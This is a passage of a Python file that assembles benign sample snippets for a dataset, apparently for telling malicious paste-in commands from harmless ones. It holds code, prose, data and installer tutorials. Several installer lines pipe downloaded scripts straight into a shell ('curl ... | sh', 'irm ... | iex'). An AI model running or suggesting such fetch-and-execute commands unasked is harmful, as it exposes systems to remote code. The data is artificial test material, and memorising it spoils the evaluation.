        "from fastapi import FastAPI\n\napp = FastAPI()\n\n@app.get('/items/{item_id}')\nasync def read_item(item_id: int, q: str | None = None):\n    return {'item_id': item_id, 'q': q}",
    ),
    (
        "https://pandas.pydata.org/docs/user_guide/groupby.html",
        "df.groupby(['region', 'month'])['revenue'].sum().unstack().fillna(0)",
    ),
    (
        "https://go.dev/doc/tutorial/getting-started",
        'package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println("Hello, World!")\n}',
    ),
    (
        "https://gobyexample.com/http-server",
        'http.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {\n\tw.WriteHeader(http.StatusOK)\n\tw.Write([]byte("ok"))\n})\nlog.Fatal(http.ListenAndServe(":8080", nil))',
    ),
    (
        "https://doc.rust-lang.org/book/ch09-02-recoverable-errors-with-result.html",
        'fn read_username() -> Result<String, io::Error> {\n    let mut s = String::new();\n    File::open("hello.txt")?.read_to_string(&mut s)?;\n    Ok(s)\n}',
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/reduce",
        "const total = items.reduce((sum, { price, qty }) => sum + price * qty, 0);",
    ),
    (
        "https://react.dev/reference/react/useEffect",
        "useEffect(() => {\n  const id = setInterval(() => setCount(c => c + 1), 1000);\n  return () => clearInterval(id);\n}, []);",
    ),
    (
        "https://nodejs.org/api/fs.html#fspromisesreadfilepath-options",
        "import { readFile } from 'node:fs/promises';\nconst cfg = JSON.parse(await readFile(new URL('./config.json', import.meta.url), 'utf8'));",
    ),
    (
        "https://expressjs.com/en/starter/hello-world.html",
        "const express = require('express')\nconst app = express()\napp.get('/', (req, res) => res.send('Hello World!'))\napp.listen(3000)",
    ),
    (
        "https://www.typescriptlang.org/docs/handbook/2/generics.html",
        "function firstOrDefault<T>(xs: T[], fallback: T): T {\n  return xs.length > 0 ? xs[0] : fallback;\n}",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/csharp/linq/",
        "var adults = people.Where(p => p.Age >= 18).OrderBy(p => p.LastName).Select(p => p.FullName).ToList();",
    ),
    (
        "https://docs.oracle.com/javase/tutorial/essential/io/file.html",
        'List<String> lines = Files.readAllLines(Paths.get("input.txt"), StandardCharsets.UTF_8);\nlines.stream().filter(l -> !l.isBlank()).forEach(System.out::println);',
    ),
    (
        "https://kotlinlang.org/docs/coroutines-basics.html",
        'fun main() = runBlocking {\n    launch {\n        delay(1000L)\n        println("World!")\n    }\n    println("Hello")\n}',
    ),
    (
        "https://docs.swift.org/swift-book/documentation/the-swift-programming-language/closures/",
        "let sorted = names.sorted { $0.lowercased() < $1.lowercased() }",
    ),
    (
        "https://www.php.net/manual/en/pdo.prepared-statements.php",
        "$stmt = $pdo->prepare('SELECT * FROM users WHERE email = :email');\n$stmt->execute(['email' => $email]);\n$user = $stmt->fetch();",
    ),
    (
        "https://ruby-doc.org/3.3/Enumerable.html",
        "words.group_by(&:size).transform_values(&:count)",
    ),
    (
        "https://docs.pytest.org/en/stable/how-to/fixtures.html",
        "@pytest.fixture\ndef client(tmp_path):\n    app = create_app({'DATABASE': tmp_path / 'test.db'})\n    with app.test_client() as c:\n        yield c",
    ),
    (
        "https://docs.python.org/3/howto/logging.html",
        "logging.basicConfig(level=logging.INFO, format='%(asctime)s %(levelname)s %(name)s: %(message)s')\nlog = logging.getLogger(__name__)",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/learn/deep-dives/everything-about-hashtable",
        "$config = @{\n    Server   = 'sql01'\n    Database = 'Inventory'\n    Timeout  = 30\n}\n$config.GetEnumerator() | Sort-Object Name",
    ),
    (
        "https://www.gnu.org/software/bash/manual/bash.html#Shell-Functions",
        'retry() {\n  local n=0\n  until "$@"; do\n    n=$((n+1)); [ $n -ge 5 ] && return 1\n    sleep $((2**n))\n  done\n}',
    ),
    (
        "https://cmake.org/cmake/help/latest/guide/tutorial/",
        "cmake_minimum_required(VERSION 3.20)\nproject(Tutorial VERSION 1.0 LANGUAGES CXX)\nset(CMAKE_CXX_STANDARD 20)\nadd_executable(Tutorial tutorial.cxx)",
    ),
    (
        "https://en.cppreference.com/w/cpp/algorithm/sort",
        "std::sort(v.begin(), v.end(), [](const auto& a, const auto& b) { return a.score > b.score; });",
    ),
    (
        "https://numpy.org/doc/stable/user/basics.broadcasting.html",
        "x = np.arange(12).reshape(3, 4)\nprint((x - x.mean(axis=0)) / x.std(axis=0))",
    ),
    (
        "https://docs.djangoproject.com/en/5.1/topics/db/queries/",
        "Entry.objects.filter(pub_date__year=2026).exclude(headline__startswith='Draft').order_by('-pub_date')[:10]",
    ),
    (
        "https://sqlalchemy.org/",
        "stmt = select(User).where(User.email.endswith('@example.org')).order_by(User.id)\nfor user in session.scalars(stmt):\n    print(user.name)",
    ),
    (
        "https://vitest.dev/guide/",
        "import { expect, test } from 'vitest'\nimport { sum } from './sum'\n\ntest('adds 1 + 2 to equal 3', () => {\n  expect(sum(1, 2)).toBe(3)\n})",
    ),
    (
        "https://docs.python.org/3/library/re.html",
        "pattern = re.compile(r'^(?P<user>[\\w.]+)@(?P<domain>[\\w-]+\\.[\\w.]+)$')\nm = pattern.match('ana.silva@example.org')\nprint(m.group('domain'))",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/learn/deep-dives/everything-about-try-catch-throw",
        "try {\n    Get-Content -Path .\\settings.json -ErrorAction Stop | ConvertFrom-Json\n} catch [System.IO.FileNotFoundException] {\n    Write-Warning 'settings.json missing, using defaults'\n}",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "async function getJSON(url) {\n  const res = await fetch(url, { headers: { Accept: 'application/json' } });\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n  return res.json();\n}",
    ),
    (
        "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/store-information-in-variables",
        'echo "VERSION=$(cat VERSION)" >> "$GITHUB_ENV"',
    ),
    (
        "https://www.lua.org/pil/",
        "for k, v in pairs(config) do\n  print(k .. ' = ' .. tostring(v))\nend",
    ),
    ("https://hexdocs.pm/elixir/Enum.html", "[1, 2, 3] |> Enum.map(&(&1 * 2)) |> Enum.sum()"),
    (
        "https://docs.scala-lang.org/tour/higher-order-functions.html",
        "val salaries = Seq(20000, 70000, 40000)\nval newSalaries = salaries.map(_ * 2)",
    ),
    (
        "https://learn.microsoft.com/en-us/office/vba/api/excel.range.value",
        "Sub FillDates()\n    Dim i As Integer\n    For i = 1 To 31\n        Cells(i, 1).Value = DateSerial(2026, 12, i)\n    Next i\nEnd Sub",
    ),
)

PROSE = (
    (
        "https://mail.google.com/mail/u/0/",
        "Hi Daniel,\n\nThanks for the quick turnaround on the contract. I've attached the signed copy. Let me know if you need anything else before the kickoff on the 14th.\n\nBest,\nRenata",
    ),
    (
        "https://docs.google.com/document/d/1AbC/edit",
        "Meeting notes 2026-12-03\nAttendees: KO, LM, PR\n- Agreed to move the launch to January\n- LM to draft the FAQ\n- Next sync: Thursday",
    ),
    (
        "https://en.wikipedia.org/wiki/Photosynthesis",
        "Photosynthesis is a process used by plants and other organisms to convert light energy into chemical energy that, through cellular respiration, can later be released to fuel the organism's activities.",
    ),
    (
        "https://www.bbc.co.uk/food/recipes/",
        "Preheat the oven to 200C/180C Fan/Gas 6. Toss the squash with oil, salt and chilli flakes and roast for 25–30 minutes until golden.",
    ),
    (
        "https://www.gutenberg.org/ebooks/1342",
        "It is a truth universally acknowledged, that a single man in possession of a good fortune, must be in want of a wife.",
    ),
    ("https://maps.google.com/", "Friedrichstraße 123, 10117 Berlin, Deutschland"),
    (
        "https://www.linkedin.com/feed/",
        "Excited to share that I've started a new position as Senior Data Engineer at Northwind! Grateful to everyone who supported me along the way.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Please find attached the Q4 budget draft. Numbers for marketing are still preliminary; I'll update them after Monday's review.",
    ),
    (
        "https://www.notion.so/",
        "## Onboarding\n- [ ] Laptop setup\n- [ ] Request GitHub access\n- [ ] Read the architecture overview\n- [ ] Shadow on-call for one week",
    ),
    (
        "https://www.reddit.com/r/homelab/",
        "Finally finished the rack: 3x mini PCs running Proxmox, a NAS with 4x8TB in RAIDZ1, and a UPS that actually lasts 20 minutes.",
    ),
    (
        "https://www.goodreads.com/",
        "A quiet, beautifully written novel about memory and loss. The middle drags a little, but the ending is worth it. 4/5.",
    ),
    (
        "https://docs.google.com/document/d/1XyZ/edit",
        "Abstract: We study the convergence of stochastic gradient descent under heavy-tailed noise and show that clipping recovers the optimal rate up to logarithmic factors.",
    ),
    (
        "https://www.airbnb.com/rooms/",
        "Check-in is after 3pm. The key box code will be sent the morning of arrival. Please don't park in front of the garage.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Lieber Herr Schmidt,\n\nvielen Dank für Ihre Nachricht. Den Termin am Donnerstag um 14 Uhr bestätige ich gern.\n\nMit freundlichen Grüßen\nAnna Weber",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Bonjour Claire,\n\nJe vous confirme la réservation de la salle pour le 12 décembre. Le traiteur arrivera à 11h30.\n\nCordialement,\nMarc",
    ),
    (
        "https://www.imdb.com/",
        "Directed by Denis Villeneuve. Starring Timothée Chalamet, Zendaya, Rebecca Ferguson. Runtime: 2h 46m.",
    ),
    (
        "https://github.com/acme-labs/inventory-service/issues/311",
        "Steps to reproduce:\n1. Create an order with 0 items\n2. Click 'Checkout'\n3. See 500 error\n\nExpected: validation message. Actual: server error.",
    ),
    (
        "https://www.gov.uk/",
        "You can apply for a passport online. It costs £88.50 and usually takes up to 3 weeks.",
    ),
    (
        "https://www.theguardian.com/",
        "The central bank left interest rates unchanged on Thursday, citing persistent services inflation and a slowing labour market.",
    ),
    (
        "https://wordpress.org/documentation/",
        "Privacy policy: we only collect the information you enter in the contact form. It is stored for 90 days and never shared with third parties.",
    ),
    (
        "https://www.coursera.org/",
        "Week 3 assignment: implement a binary search tree with insert, delete and in-order traversal. Submit by Sunday 23:59 UTC.",
    ),
    (
        "https://slack.com/",
        "Release notes 2.8.0\n- New: CSV export for invoices\n- Fixed: timezone bug in weekly reports\n- Changed: minimum Node version is now 20",
    ),
    (
        "https://docs.google.com/spreadsheets/",
        "Name\tRole\tStart\nAna Silva\tDesigner\t2027-01-05\nTom Berg\tQA\t2027-01-12",
    ),
    (
        "https://www.etsy.com/",
        "Handmade ceramic mug, 350 ml, dishwasher safe. Each piece is unique; colours may vary slightly.",
    ),
    (
        "https://en.wikipedia.org/wiki/Run_command",
        "The Run command on Microsoft Windows allows the user to open a program, folder, document or website directly by typing its path or name. It is opened with the Windows key + R shortcut.",
    ),
    (
        "https://support.microsoft.com/en-us/windows",
        "To open File Explorer, press Windows logo key + E. You can type a path such as %USERPROFILE%\\Documents into the address bar to go there directly.",
    ),
    (
        "https://www.python.org/psf/conduct/",
        "Be open. Be considerate. Be respectful. We're a diverse community; disagreements happen, but they are no excuse for poor behaviour.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Your verification code is 482913. It expires in 10 minutes. If you didn't request this, you can ignore this email.",
    ),
    (
        "https://accounts.google.com/",
        "Backup codes\n1. 8412 0937\n2. 5520 1184\n3. 0391 7742\nKeep these somewhere safe.",
    ),
    (
        "https://www.ikea.com/",
        "Assembly: attach the side panels (A) to the base (B) using 8 screws (104321). Do not fully tighten until the back panel is in place.",
    ),
)

# The same projects' installers quoted by a tutorial or blog (another page than the project's)
TUTORIAL = (
    (
        "https://www.digitalocean.com/community/tutorials/how-to-install-and-use-docker-on-ubuntu-22-04",
        "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /usr/share/keyrings/docker-archive-keyring.gpg",
    ),
    (
        "https://www.freecodecamp.org/news/how-to-install-node-js-on-ubuntu/",
        "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash - && sudo apt-get install -y nodejs",
    ),
    ("https://dev.to/", "curl -LsSf https://astral.sh/uv/0.5.11/install.sh | sh"),
    (
        "https://medium.com/",
        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/0.5.11/install.ps1 | iex"',
    ),
    (
        "https://www.howtogeek.com/",
        'NONINTERACTIVE=1 /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" && echo \'eval "$(/opt/homebrew/bin/brew shellenv)"\' >> ~/.zprofile',
    ),
    (
        "https://linuxize.com/post/how-to-install-node-js-on-ubuntu-22-04/",
        "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | PROFILE=~/.zshrc bash",
    ),
    (
        "https://www.baeldung.com/linux/rust-install",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal --default-toolchain 1.83.0",
    ),
    ("https://itsfoss.com/", "curl -fsSL https://ollama.com/install.sh | OLLAMA_VERSION=0.5.4 sh"),
    (
        "https://www.hanselman.com/blog/",
        "winget install JanDeDobbeleer.OhMyPosh --source winget --scope user --force",
    ),
    (
        "https://www.cyberciti.biz/faq/",
        'sh -c "$(wget https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh -O -)" "" --unattended',
    ),
    (
        "https://blog.jetbrains.com/",
        'curl -fsSL https://bun.sh/install | bash -s "bun-v1.1.42" && ~/.bun/bin/bun --version',
    ),
    (
        "https://www.tecmint.com/",
        "curl -sfL https://get.k3s.io | INSTALL_K3S_VERSION=v1.31.4+k3s1 sh -s - server --cluster-init",
    ),
    (
        "https://kubernetes.io/docs/tasks/tools/install-kubectl-linux/",
        'curl -LO "https://dl.k8s.io/release/v1.32.0/bin/linux/arm64/kubectl" && sudo install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl',
    ),
    (
        "https://www.datacamp.com/tutorial/",
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh && bash Miniconda3-latest-Linux-x86_64.sh",
    ),
    (
        "https://www.atlassian.com/git/tutorials/install-git",
        "sudo apt-get update && sudo apt-get install git",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/dev-environment/javascript/nodejs-on-windows",
        "nvm install latest && nvm use 22.12.0",
    ),
    ("https://dev.to/", "irm https://get.scoop.sh | iex"),
    ("https://www.smashingmagazine.com/", "npm create vite@latest dashboard -- --template vue-ts"),
    (
        "https://docs.docker.com/engine/install/ubuntu/#install-using-the-convenience-script",
        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh ./get-docker.sh --dry-run",
    ),
    (
        "https://tailscale.com/kb/1031/install-linux",
        "curl -fsSL https://tailscale.com/install.sh | sh && sudo tailscale up --ssh --advertise-tags=tag:server",
    ),
    ("https://deno.com/", "curl -fsSL https://deno.land/install.sh | sh -s v2.1.4"),
    (
        "https://www.starship.rs/guide/",
        "curl -sS https://starship.rs/install.sh | sh -s -- --yes --bin-dir ~/.local/bin",
    ),
)

# Run-box and Explorer entries and admin tools people type with an argument
RUN_ARGS = (
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/mstsc",
        "mstsc /v:rdgw.corp.local /admin",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/shutdown",
        'shutdown /s /t 3600 /c "Updates tonight - save your work"',
    ),
    (
        "https://support.microsoft.com/en-us/windows",
        "control /name Microsoft.BitLockerDriveEncryption",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/shell/executing-control-panel-items",
        "rundll32.exe shell32.dll,Control_RunDLL inetcpl.cpl",
    ),
    ("https://support.microsoft.com/en-us/windows", "msconfig -4"),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ping",
        "cmd /k ping -t 8.8.8.8",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/procmon",
        "\\\\live.sysinternals.com\\tools\\procmon.exe",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/identity-protection/credential-guard/",
        "msinfo32 /nfo C:\\Temp\\%COMPUTERNAME%.nfo",
    ),
)

# Data people copy between tools: CSV, JSON, Markdown tables, addresses, numbers
DATA = (
    (
        "https://docs.google.com/spreadsheets/d/1Qm/edit",
        "date,region,orders,revenue\n2026-11-01,EU,1432,88120.50\n2026-11-01,US,2210,140233.10\n2026-11-02,EU,1388,85001.75",
    ),
    (
        "https://jsonplaceholder.typicode.com/users/1",
        '{\n  "id": 1,\n  "name": "Leanne Graham",\n  "username": "Bret",\n  "email": "Sincere@april.biz",\n  "address": {"city": "Gwenborough", "zipcode": "92998-3874"}\n}',
    ),
    (
        "https://github.com/acme-labs/inventory-service/blob/main/docs/api.md",
        "| Method | Path | Description |\n|---|---|---|\n| GET | /v1/items | List items |\n| POST | /v1/items | Create an item |\n| DELETE | /v1/items/{id} | Remove an item |",
    ),
    ("https://www.iban.com/structure", "IBAN: DE89 3704 0044 0532 0130 00\nBIC: COBADEFFXXX"),
    (
        "https://www.timeanddate.com/worldclock/",
        "Berlin 10:42 · New York 04:42 · Tokyo 18:42 · Sydney 20:42",
    ),
    (
        "https://finance.yahoo.com/quote/MSFT/",
        "MSFT 431.20 +2.14 (+0.50%) At close: December 4 at 4:00 PM EST",
    ),
    ("https://www.xe.com/currencyconverter/", "1,000.00 EUR = 1,052.31 USD"),
    (
        "https://github.com/acme-labs/inventory-service/releases/tag/v2.8.0",
        "sha256  e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  inventory-service_2.8.0_linux_amd64.tar.gz",
    ),
    (
        "https://keys.openpgp.org/",
        "pub   ed25519 2024-03-11 [SC]\n      9F3A 21C4 7B0D 55E2 1A8C  4D6F 02B9 E7A1 33C0 5F18\nuid           Maria Lopez <maria.lopez@example.org>",
    ),
    (
        "https://app.slack.com/client/T01ACME/C02ENG",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl priya@laptop",
    ),
    ("https://www.openstreetmap.org/", "48.85837, 2.29448"),
    (
        "https://regex101.com/",
        "^(?:(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)\\.){3}(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)$",
    ),
    ("https://crontab.guru/", "*/15 9-17 * * 1-5"),
    ("https://www.uuidgenerator.net/", "6f1c2d9e-3a4b-4c5d-8e7f-90a1b2c3d4e5"),
    (
        "https://jwt.io/",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    ),
    ("https://www.base64decode.org/", "SGVsbG8sIHdvcmxkIQ=="),
    ("https://colorhunt.co/", "#264653 #2a9d8f #e9c46a #f4a261 #e76f51"),
    ("https://semver.org/", "1.0.0-alpha < 1.0.0-alpha.1 < 1.0.0-beta < 1.0.0-rc.1 < 1.0.0"),
    (
        "https://mail.google.com/mail/u/0/",
        "Tracking number: 1Z999AA10123456784 (UPS Ground), estimated delivery Wed, Dec 9",
    ),
    (
        "https://docs.google.com/document/d/1XyZ/edit",
        "WiFi: Guest-Lounge\nPassword: sunflower-Harbor-82\n(valid until 31 Dec)",
    ),
)

CHAT_PAGES = (
    "https://app.slack.com/client/T01ACME/C02ENG",
    "https://teams.microsoft.com/v2/",
    "https://discord.com/channels/81234/90211",
    "https://web.whatsapp.com/",
    "https://chat.google.com/room/AAAA1234",
)
LOG_PAGES = (
    "https://grafana.corp.local/explore",
    "https://github.com/acme-labs/inventory-service/actions/runs/12044181",
    "https://kibana.corp.local/app/discover",
    "https://gitlab.corp.local/platform/infra/-/jobs/88120",
    "https://console.cloud.google.com/logs/query",
)
URL_PAGES = (
    "https://app.slack.com/client/T01ACME/C02ENG",
    "https://outlook.office.com/mail/",
    "https://mail.google.com/mail/u/0/",
    "https://teams.microsoft.com/v2/",
    "https://www.notion.so/acme/Team-links-7f1c",
)
RUN_PAGES = (
    "https://support.microsoft.com/en-us/windows/open-the-run-dialog",
    "https://ss64.com/nt/run.html",
    "https://intranet.corp.local/it/kb/useful-shortcuts",
    "https://www.howtogeek.com/windows-run-commands/",
    "https://learn.microsoft.com/en-us/windows/client-management/",
)
EXP_PAGES = (
    "https://intranet.corp.local/it/kb/shared-drives",
    "https://support.microsoft.com/en-us/windows/file-explorer-in-windows",
    "https://ss64.com/nt/syntax-variables.html",
    "https://www.tenforums.com/tutorials/",
)


def benign() -> list[Benign]:
    B: list[Benign] = []
    add_own_page(B)
    B += [("admin-powershell", TERM, src, t) for src, t in ADMIN_PS]
    B += [("cmd", TERM, src, t) for src, t in CMD]
    B += [("shell", TERM, src, t) for src, t in SHELL]
    B += [("package-manager", TERM, src, t) for src, t in PKG]
    B += [("docker-k8s-cloud", TERM, src, t) for src, t in DOCKER_K8S]
    B += [("git", TERM, src, t) for src, t in GIT]
    B += [("sql", UNK, src, t) for src, t in SQL]
    B += [("config", UNK, src, t) for src, t in CONFIG]
    B += [("console-js", CON, src, t) for src, t in CONSOLE_JS]
    B += [("url", UNK, URL_PAGES[i % len(URL_PAGES)], t) for i, (_, t) in enumerate(URLS)]
    B += [("run-box", RUN, RUN_PAGES[i % len(RUN_PAGES)], t) for i, t in enumerate(RUNBOX)]
    B += [("run-box-args", RUN, src, t) for src, t in RUN_ARGS]
    B += [("explorer-bar", EXP, EXP_PAGES[i % len(EXP_PAGES)], t) for i, t in enumerate(EXPLORER)]
    B += [("security-writing", UNK, src, t) for src, t in SECURITY]
    B += [("support-mail", UNK, src, t) for src, t in SUPPORT]
    B += [("oauth-docs", UNK, src, t) for src, t in OAUTH_DOCS]
    B += [("chat", UNK, CHAT_PAGES[i % len(CHAT_PAGES)], t) for i, t in enumerate(CHAT)]
    B += [("log", UNK, LOG_PAGES[i % len(LOG_PAGES)], t) for i, t in enumerate(LOGS)]
    B += [("code", UNK, src, t) for src, t in CODE]
    B += [("prose", UNK, src, t) for src, t in PROSE]
    B += [("installer-tutorial", TERM, src, t) for src, t in TUTORIAL]
    B += [("data", UNK, src, t) for src, t in DATA]
    return B


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows(PREFIX, lures())


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows(PREFIX, benign())


if __name__ == "__main__":
    blindkit.main(PREFIX, lures(), benign(), LURES_OUT, BENIGN_OUT)
